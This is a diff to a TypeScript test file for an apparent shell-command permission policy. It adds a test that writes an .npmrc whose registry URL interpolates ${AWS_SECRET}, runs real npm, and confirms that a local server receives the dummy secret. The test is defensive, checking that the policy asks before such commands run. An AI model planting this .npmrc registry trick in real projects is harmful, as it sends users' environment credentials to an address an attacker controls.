@@ -1,4 +1,10 @@
 /** `npm ls` beside an `.npmrc`: most of them say how packages are installed; some name a program, a file or another machine. */
+import { spawn } from 'node:child_process';
+import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { judgeIn, judgeUnder } from '../judged-line.js';
@@ -86,6 +92,35 @@ test('only a rule that a person wrote lifts what a file beside the command may d
     for (const line of ['npm view x', 'npm outdated']) assert.is(work(project, line).decision, 'ask', line);
     assert.is(work(project, 'npm test').decision, 'allow', 'the work of a trusted project');
   }));
+
+test('real npm sends what such a file names to the address that it names', async () => {
+  const asked: string[] = [];
+  const server = createServer(({ url }, response) => {
+    asked.push(url ?? '');
+    response.writeHead(404).end();
+  });
+  await new Promise<void>((resolve) => {
+    server.listen(0, '127.0.0.1', resolve);
+  });
+  const { port } = server.address() as AddressInfo;
+  const project = mkdtempSync(join(tmpdir(), 'policy-npm-'));
+  try {
+    writeFileSync(join(project, '.npmrc'), `registry=http://127.0.0.1:${port}/\${AWS_SECRET}/\n`);
+    writeFileSync(join(project, 'package.json'), '{}');
+    const environment = { PATH: process.env.PATH, HOME: project, AWS_SECRET: 'told-to-strangers' };
+    await new Promise((resolve) => {
+      spawn('npm', ['view', 'x', '--fetch-retries=0'], { cwd: project, env: environment, stdio: 'ignore' }).on('close', resolve);
+    });
+    assert.ok(
+      asked.some((url) => url.includes('told-to-strangers')),
+      asked.join(' '),
+    );
+    assert.is(judge(realpathSync(project), 'npm view x').decision, 'ask');
+  } finally {
+    server.close();
+    rmSync(project, { recursive: true });
+  }
+});
 
 test('without such a file the preset allows them', () =>
   withFiles({ 'package.json': '{}' }, (project) => {
